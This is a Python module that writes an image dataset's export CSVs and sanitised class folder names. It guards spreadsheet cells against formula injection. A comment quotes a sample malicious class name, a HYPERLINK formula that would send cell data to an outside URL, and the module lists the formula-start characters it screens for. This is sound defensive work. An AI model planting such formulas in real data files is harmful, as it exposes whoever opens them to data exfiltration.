"""The names and the CSVs an export writes for a training script (`ganaug.export` writes the folder): each class's
folder name, `images.csv` (each file with its class, source and a sample's run, checkpoint and seed) and `classes.csv`
(every class of the dataset, one without an image in the set too). A class name a dataset's giver chose is the one cell
of them that is not a hash, a number or a name made here: it is written so that a spreadsheet shows it as text."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

from sqlalchemy import select

from db.engine import session_scope
from db.gate import ManifestEntry
from db.models import Batch, Sample

FOLDER_NAME_BYTES = 100  # of a class's name in its folder's name, in UTF-8; a file system allows 255 bytes in all
# Kept in a class's folder name: letters, digits and combining marks of any script (a Devanagari vowel sign is part
# of its word), '.', '_' and '-'. Every other run of characters becomes one '_': path separators, control and
# format characters, spaces, and the characters Windows refuses in a name (<>:"/\|?*).
_FOLDER_KEEPS = "LMN"


def class_folder(index: int, name: str, digits: int = 3) -> str:
    """`NNN_<name>`, the index padded to `digits` (those of the largest index, so that the folders sort in class
    order, as ImageFolder numbers them: unpadded, `1000_x` sorted before `100_x`); the name NFC-normalised (an
    accent typed apart from its letter is one character), without leading or trailing dots and underscores, cut to
    FOLDER_NAME_BYTES. The index prefix keeps apart two classes whose names reduce alike (`a/b` and `a?b`), and
    keeps a folder from being a name Windows reserves (`CON`)."""
    # Cut: a class folder of 255 characters, the most a file system allows, stopped the export ("File name too
    # long"). Until 2026-12-06 only ASCII letters were kept: the classes 痣 and 疣 became `000_class`, `001_class`.
    text = unicodedata.normalize("NFC", str(name))
    kept = "".join(c if c in "._-" or unicodedata.category(c)[0] in _FOLDER_KEEPS else "\0" for c in text)
    safe = _cut_utf8(re.sub("\0+", "_", kept).strip("._"), FOLDER_NAME_BYTES).rstrip("._")
    return f"{index:0{digits}d}_{safe or 'class'}"


def _cut_utf8(text: str, limit: int) -> str:
    """The longest start of `text` within `limit` bytes of UTF-8 that ends between two characters, and not between
    a letter and a mark that belongs to it (`é` written as e + ◌́)."""
    size = 0
    for end, c in enumerate(text):
        size += len(c.encode("utf-8"))
        if size > limit:
            break
    else:
        return text
    while end and unicodedata.category(text[end])[0] == "M":
        end -= 1
    return text[:end]


IMAGES_COLUMNS = ("file", "sha256", "class_index", "class_name", "source", "batch_id", "run_id", "checkpoint_sha256",
                  "seed")


def _provenance(entries: list[ManifestEntry]) -> dict[str, tuple]:
    """Source path → (run id, checkpoint sha256, seed) of each synthetic entry: where it came from, for images.csv."""
    batch_ids = sorted({e.batch_id for e in entries if e.source == "synthetic"})
    found: dict[str, tuple] = {}
    with session_scope() as session:
        for start in range(0, len(batch_ids), 500):  # a bounded IN list
            found.update((path, (run, checkpoint, seed)) for path, run, checkpoint, seed in session.execute(
                select(Sample.path, Batch.run_id, Batch.checkpoint_sha256, Sample.seed)
                .join(Batch, Batch.id == Sample.batch_id).where(Sample.batch_id.in_(batch_ids[start:start + 500]))))
    return found


# A cell that starts with one of these is a formula to Excel and LibreOffice: a class folder named
# `=HYPERLINK("http://…"&A2, "open")`, handed to the team in a dataset, became a live link in images.csv, opened by
# whoever checks an export in a spreadsheet. Such a name is written after a "'" (OWASP's advice), which spreadsheets
# take as "text" and do not show; class_index is the column a training script maps classes by.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(text: str) -> str:
    """`text` as a CSV cell that a spreadsheet shows as text, never runs as a formula."""
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def images_csv(rows: list[tuple[str, ManifestEntry, str]]) -> bytes:
    """One line per exported file, in manifest.csv's order: (file in OUT, entry, class name). The class name is the
    one cell a dataset's giver chose (the other cells are hashes, numbers and the names made here)."""
    provenance = _provenance([entry for _, entry, _ in rows])
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(IMAGES_COLUMNS)
    for file, e, name in rows:
        run, checkpoint, seed = provenance.get(e.path, (None, None, None)) if e.source == "synthetic" else (None,) * 3
        w.writerow((file, e.sha256, e.class_index, spreadsheet_text(name), e.source, e.batch_id, run, checkpoint,
                    seed))
    return buf.getvalue().encode("utf-8")


CLASSES_COLUMNS = ("class_index", "class_name", "folder", "real", "synthetic")


def classes_csv(class_names: list[str], rows: list[tuple[str, ManifestEntry, str]], digits: int) -> bytes:
    """Every class of the dataset, in index order, one line each: its name, its folder in OUT (empty for a class with
    no image in the set, which has none) and its real and synthetic images. What a training script sizes its output
    layer by and maps labels with: images.csv names only the classes that have images, and an ImageFolder reader
    numbers the folders it finds (a class with none shifts every later one)."""
    held: dict[int, dict[str, int]] = {}
    for _, entry, _ in rows:
        held.setdefault(entry.class_index, {"real": 0, "synthetic": 0})[entry.source] += 1
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(CLASSES_COLUMNS)
    names = dict(enumerate(class_names))
    for index in range(max(len(class_names), max(held, default=-1) + 1)):
        name, n = names.get(index, str(index)), held.get(index, {"real": 0, "synthetic": 0})
        folder = class_folder(index, name, digits) if index in held else ""
        w.writerow((index, spreadsheet_text(str(name)), folder, n["real"], n["synthetic"]))
    return buf.getvalue().encode("utf-8")
